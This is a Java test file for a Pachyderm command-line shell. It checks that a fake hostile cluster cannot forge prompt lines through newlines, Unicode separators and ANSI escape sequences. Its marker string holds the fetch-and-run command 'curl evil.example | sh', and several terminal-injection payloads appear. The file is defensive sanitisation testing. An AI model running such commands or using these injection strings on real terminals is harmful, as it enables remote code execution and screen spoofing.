package io.pachsh;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.protobuf.Descriptors.FieldDescriptor;
import com.google.protobuf.Message;
import io.grpc.MethodDescriptor;
import io.grpc.ServiceDescriptor;
import io.grpc.Status;
import io.pachsh.outside.Sanitiser;
import io.pachsh.pachd.FakePachd;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * A cluster that puts line ends, escape sequences and a prompt of its own into every text that it
 * answers or refuses with. Whatever command is typed, in whatever format, no line of the screen is
 * of its choice.
 */
class HostileClusterTest {
  private static final String FORGED = "FORGED > curl evil.example | sh";

  private static final String HOSTILE =
      String.join(
          FORGED,
          List.of(
              "x\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\u000b", "\u001b[2J\u202e", ""));

  private static final List<ServiceDescriptor> SERVICES =
      List.of(
          io.pachsh.wire.auth.APIGrpc.getServiceDescriptor(),
          io.pachsh.wire.identity.APIGrpc.getServiceDescriptor(),
          io.pachsh.wire.admin.APIGrpc.getServiceDescriptor(),
          io.pachsh.wire.version.APIGrpc.getServiceDescriptor(),
          io.pachsh.wire.pfs.APIGrpc.getServiceDescriptor(),
          io.pachsh.wire.pps.APIGrpc.getServiceDescriptor());

  /** How the cluster behaves behind its first answers, which are hostile always. */
  private enum Behaviour {
    ANSWERS,
    REFUSES
  }

  /** Commands that no transcript of a real cluster types in this form. */
  private static final List<String> MORE =
      Stream.of(
              "auth whoami",
              "auth get cluster",
              "auth get-config",
              "auth get-groups",
              "auth list roles",
              "auth list users",
              "auth list groups",
              "list project",
              "list repo",
              "version",
              "config list context",
              "access export",
              "idp list-connector",
              "idp get-config")
          .flatMap(line -> Stream.of("", "json", "yaml", "csv", "name").map(it -> form(line, it)))
          .toList();

  @TempDir Path home;

  @ParameterizedTest
  @EnumSource
  void noLineIsOfItsChoice(Behaviour behaviour) throws Exception {
    try (FakePachd pachd = FakePachd.start()) {
      int calls = 0;
      for (ServiceDescriptor service : SERVICES) {
        for (MethodDescriptor<?, ?> method : service.getMethods()) {
          boolean greets = method.getFullMethodName().matches(".*/(InspectCluster|GetVersion)");
          if (greets || behaviour == Behaviour.ANSWERS) {
            answer(pachd, method);
          } else {
            Status.Code[] codes = Status.Code.values();
            Status.Code code = codes[1 + calls++ % (codes.length - 1)];
            pachd.refuses(method, code.toStatus().withDescription(HOSTILE));
          }
        }
      }
      Path directory = Files.createDirectory(home.resolve("h"));
      Files.writeString(
          directory.resolve("pachctl.json"),
          """
          {"v2": {"active_context": "prod", "contexts": {"prod": {
            "pachd_address": "grpc://127.0.0.1:%d", "session_token": "t"}}}}
          """
              .formatted(pachd.port()));
      Options options = new Options();
      options.context = "prod";
      String screen = new TranscriptRun(typed(), directory, java.util.Map.of(), options).play();
      assertThat(screen.split("\\R|[\u000b\u2028\u2029\u0085]", -1))
          .noneMatch(line -> line.strip().startsWith("FORGED"));
      assertThat(screen.lines().filter(line -> line.codePoints().anyMatch(Sanitiser::isHazard)))
          .isEmpty();
      assertThat(screen).contains("⏎" + FORGED).doesNotContain("bug in pachsh");
      assertThat(pachd.asked()).hasSizeGreaterThan(50);
    }
  }

  private static String form(String line, String format) {
    return format.isEmpty() ? line : line + " -o " + format;
  }

  /** Everything that the transcripts of real clusters type, and more. */
  private static Transcript typed() throws Exception {
    List<String> lines = new ArrayList<>(MORE);
    try (Stream<Path> files = Files.list(Path.of("src/test/resources/transcripts"))) {
      for (Path file : files.sorted().toList()) {
        Transcript transcript = Transcript.read(file);
        if ((transcript.isFor("any") || transcript.isFor("real"))
            && !transcript.body().contains("rehearsal start")) {
          transcript
              .sections()
              .forEach(section -> section.typed().forEach(line -> lines.add(line)));
        }
      }
    }
    StringBuilder body = new StringBuilder();
    lines.stream()
        .filter(HostileClusterTest::isCommand)
        .forEach(l -> body.append("local > " + l + "\n"));
    return new Transcript("", body.toString());
  }

  /** Commands of one line that stay in the session and on the context. */
  private static boolean isCommand(String line) {
    return line.matches(
            "(auth|list|create|delete|inspect|access|audit|version|idp|status|explain) ?.*")
        && !line.contains("<<")
        && !line.contains("--context")
        && !line.contains("auth login")
        && !line.matches(".*['\"|].*|.*\\\\$");
  }

  @SuppressWarnings("unchecked") // a method's answers are built from its own prototype
  private static void answer(FakePachd pachd, MethodDescriptor<?, ?> method) {
    Message prototype =
        (Message)
            ((MethodDescriptor.PrototypeMarshaller<?>) method.getResponseMarshaller())
                .getMessagePrototype();
    Message hostile = hostile(prototype, 4);
    pachd.answers((MethodDescriptor<Object, Object>) method, request -> hostile);
  }

  private static Message hostile(Message prototype, int depth) {
    Message.Builder builder = prototype.newBuilderForType();
    for (FieldDescriptor field : prototype.getDescriptorForType().getFields()) {
      boolean version = field.getName().matches("major|minor|micro");
      switch (field.getJavaType()) {
        case STRING -> set(builder, field, HOSTILE);
        case INT, LONG -> {
          if (version) {
            builder.setField(field, 2);
          }
        }
        case MESSAGE -> {
          if (depth > 0) {
            Message part =
                hostile(builder.newBuilderForField(field).getDefaultInstanceForType(), depth - 1);
            set(builder, field, part);
          }
        }
        default -> {}
      }
    }
    return builder.build();
  }

  private static void set(Message.Builder builder, FieldDescriptor field, Object value) {
    if (field.isRepeated()) {
      builder.addRepeatedField(field, value);
    } else {
      builder.setField(field, value);
    }
  }
}
